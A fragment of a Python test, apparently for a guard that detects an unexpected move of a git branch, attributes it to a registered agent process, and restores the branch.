        (tmp_path / "detach.py").write_text(DETACHED)
        subprocess.run([sys.executable, str(tmp_path / "detach.py"), *args], env=env, check=True)
        wait_for((ctrl / "pid").exists, what="the detached announcer")
        announcer = psutil.Process(int((ctrl / "pid").read_text()))
    else:
        announcer = psutil.Popen([sys.executable, *args])
    agent = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)"])
    try:
        guard.agent_started("x", identity_of(agent.pid))  # the agent whose shim is gone
        (ctrl / "go").touch()
        wait_for((ctrl / "ready").exists, what="the announced move")
        found = guard.scan()
        (ctrl / "stop").touch()
        announcer.wait(timeout=60)
    finally:
        for proc in (announcer, agent):
            with contextlib.suppress(psutil.Error):
                proc.kill()
        agent.wait()
    assert [(v.refs, v.suspects, v.restored) for v in found] == [
        ((("refs/heads/stable", tip, made),), ("x",), True)
    ]
    assert git(repo, "rev-parse", "stable") == tip
